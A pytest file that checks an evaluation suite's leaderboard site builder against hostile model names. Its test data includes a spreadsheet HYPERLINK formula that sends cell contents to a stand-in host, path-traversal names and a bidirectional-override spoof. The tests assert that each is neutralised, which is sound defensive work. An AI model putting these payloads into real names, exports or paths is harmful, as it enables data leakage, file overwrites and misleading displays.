"""The published site from runs with hostile model names: no file outside the
site, and no spreadsheet formula in leaderboard.csv."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest

from tests.conftest import evalsuite

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
SPOOF = "org/gpt-5\u202e\u2066lam"  # shown raw, the override reads "org/gpt-5mal": the tail reversed
NAMES = [FORMULA, "../../escaped", "/", "..", "a" * 300, "模型/../é", "@SUM(A1)", "-2+3", "+cmd", SPOOF]


@pytest.fixture(scope="module")
def site(data_dir, tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("lb-hostile")
    proc = evalsuite("run", "--model", "mock", "-T", "subtasks=navigate", "--limit", "2",
                     "--data-dir", str(data_dir), "-o", str(tmp / "seed"))
    assert proc.returncode == 0, proc.stderr
    (seed,) = (tmp / "seed").iterdir()
    runs = []
    for i, name in enumerate(NAMES):  # the same run under each model name
        run = Path(shutil.copytree(seed, tmp / "runs" / str(i)))
        prov = json.loads((run / "run.json").read_text())
        prov["model"]["id"], prov["run_id"] = name, f"{name}-{i}"
        (run / "run.json").write_text(json.dumps(prov))
        results = json.loads((run / "results.json").read_text())
        results["model"], results["run_id"] = name, prov["run_id"]
        (run / "results.json").write_text(json.dumps(results))
        runs.append(run)
    out = tmp / "deep" / "site"
    before = set(tmp.rglob("*"))
    proc = evalsuite("leaderboard", "build", *map(str, runs), "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    created = set(tmp.rglob("*")) - before
    assert created and all(p == out or out in p.parents or p == out.parent for p in created)
    return out


def test_model_names_never_place_a_file_outside_the_site(site):
    # (the fixture checked that the build created nothing outside the site folder)
    pages = sorted(p.name for p in (site / "models").iterdir())
    assert len(pages) == len(NAMES) and all(len(name) < 100 and "/" not in name for name in pages)


def test_csv_cells_never_open_a_formula(site):
    rows = list(csv.DictReader((site / "leaderboard.csv").open(encoding="utf-8")))
    assert len(rows) == len(NAMES)
    for row in rows:
        for column in ("model", "run_id"):
            assert not row[column].startswith(("=", "+", "-", "@")), row[column]
        float(row["value"])  # numbers stay numbers
    assert {r["model"] for r in rows} >= {"'" + FORMULA, "'@SUM(A1)", "'-2+3", "'+cmd", "../../escaped"}


def test_a_run_on_fewer_items_is_flagged_in_its_column(data_dir, tmp_path):
    # --limit 1 scores 1 item per subtask; the same task, params and dataset hash
    # otherwise, so it stood next to full runs without a mark.
    runs = []
    for name, limit in (("org/a", "3"), ("org/b", "3"), ("org/c", "1")):
        proc = evalsuite("run", "--model", f"mock:{name}", "-T", "subtasks=navigate", "--limit", limit,
                         "--data-dir", str(data_dir), "-o", str(tmp_path / name))
        assert proc.returncode == 0, proc.stderr
        runs += list((tmp_path / name).iterdir())
    proc = evalsuite("leaderboard", "build", *map(str, runs), "--out", str(tmp_path / "site"))
    assert proc.returncode == 0, proc.stderr
    index = (tmp_path / "site" / "index.html").read_text()
    flagged = index.split('class="deviates" title="')[1:]
    assert len(flagged) == 1 and "limit: 1 (most: 3)" in flagged[0].split('"')[0]
    start = index.index('data-model="org/c"')
    assert 'class="deviates"' in index[start:index.index("</tr>", start)]


def test_bidi_controls_in_names_show_as_codes_not_as_reordered_text(site):
    # A right-to-left override in a model id made the page show another name than
    # the id (Trojan Source, CVE-2021-42574); the site shows each control as a code.
    pages = [site / "index.html", *(site / "models").glob("*.html")]
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert not any(c in text for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"), page
    assert "org/gpt-5[U+202E][U+2066]lam" in (site / "index.html").read_text(encoding="utf-8")
    rows = list(csv.DictReader((site / "leaderboard.csv").open(encoding="utf-8")))
    assert SPOOF in {r["model"] for r in rows}  # the data keeps the id as it is
